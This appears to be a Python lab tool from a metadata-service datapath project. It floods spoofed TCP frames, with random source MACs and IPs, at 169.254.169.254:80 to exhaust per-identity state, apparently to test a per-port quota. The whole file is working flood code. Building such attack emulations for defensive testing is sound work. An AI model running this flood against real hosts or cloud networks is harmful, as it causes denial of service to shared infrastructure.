"""Raw-frame flood: TCP segments to 169.254.169.254:80 from random MACs and IPs.

What a hostile guest with root does to exhaust per-identity state in the datapath:
every frame claims a new (MAC, IP), and only some are SYNs. Frames are built once
(`frames.random_segments`) and sent in a loop on an AF_PACKET socket, as fast as the
port takes them, until `--frames` are sent or `--seconds` pass, whichever is first.

    ip netns exec NS python -m transparent_md.lab.attacks.flood --frames 100000 --seconds 60

Says SENDING on stderr once its frames are built and the first is about to go (building
takes seconds: a caller waits for it before judging anything), and prints one JSON line
at the end: {"sent", "send_errors", "seconds", "frames_per_s", "dst_mac"}.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import socket
import sys
import time
from pathlib import Path

from transparent_md.lab.attacks.frames import SYN_EVERY, random_segments

METADATA_IP = "169.254.169.254"
METADATA_PORT = 80
# The datapath's shadow slot table (transparent_md.datapath.layout.MAX_SLOTS; not
# imported: a tool run in a guest needs no datapath code).
SHADOW_SLOTS = 65_536
# Distinct frames built up front (at most): their SYNs (one in SYN_EVERY) are twice
# the table's slots, so one pass alone asks for more identities than the table holds
# (without a per-port quota it fills); ~2-3 s to build.
MAX_DISTINCT_FRAMES = 2 * SHADOW_SLOTS * SYN_EVERY
# The kernel resolves the metadata MAC in a few ms; a loaded machine gets room.
ARP_RESOLVE_TIMEOUT_S = 3.0
ARP_POLL_S = 0.05
# UDP discard port: the datagram only exists to make the kernel ARP for the address.
DISCARD_PORT = 9
# The stderr line that says the frames are built and sending starts.
SENDING = "sending"
# Check the clock once per this many frames: time.monotonic() per frame would halve
# the rate.
CLOCK_EVERY = 256


def resolve_mac(ip: str, timeout: float = ARP_RESOLVE_TIMEOUT_S) -> str:
    """The MAC this namespace's kernel learns for `ip` (the namespace needs a route)."""
    deadline = time.monotonic() + timeout
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.connect((ip, DISCARD_PORT))
        while time.monotonic() < deadline:
            with contextlib.suppress(OSError):  # the first sends fail while ARP is pending
                udp.send(b"?")
            for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
                fields = line.split()
                if fields[0] == ip and fields[3] != "00:00:00:00:00:00":
                    return fields[3]
            time.sleep(ARP_POLL_S)
    raise SystemExit(f"no ARP answer for {ip} within {timeout:g} s; pass --dst-mac")


def flood(iface: str, frames: list[bytes], max_frames: int, max_seconds: float) -> dict:
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    sent = errors = 0
    started = time.monotonic()
    deadline = started + max_seconds
    n = len(frames)
    try:
        while sent < max_frames:
            for _ in range(min(CLOCK_EVERY, max_frames - sent)):
                try:
                    sock.send(frames[sent % n])
                    sent += 1
                except BlockingIOError:
                    errors += 1
                except OSError:
                    errors += 1  # ENOBUFS under pressure: the port is saturated
            if time.monotonic() >= deadline:
                break
    finally:
        sock.close()
    seconds = time.monotonic() - started
    return {"sent": sent, "send_errors": errors, "seconds": round(seconds, 3),
            "frames_per_s": round(sent / seconds) if seconds else 0}


def main(argv: list[str] | None = None) -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--iface", default="eth0")
    p.add_argument("--frames", type=int, default=100_000, help="stop after this many")
    p.add_argument("--seconds", type=float, default=60.0, help="stop after this long")
    p.add_argument("--dst-mac", help="destination MAC (default: ARP for the address)")
    p.add_argument("--seed", type=int, default=1)
    args = p.parse_args(argv)
    dst_mac = args.dst_mac or resolve_mac(METADATA_IP)
    frames = list(random_segments(min(args.frames, MAX_DISTINCT_FRAMES), dst_mac=dst_mac,
                                  dst_ip=METADATA_IP, dport=METADATA_PORT, seed=args.seed))
    print(SENDING, file=sys.stderr, flush=True)
    result = flood(args.iface, frames, args.frames, args.seconds)
    print(json.dumps({**result, "dst_mac": dst_mac}), flush=True)


if __name__ == "__main__":
    main()
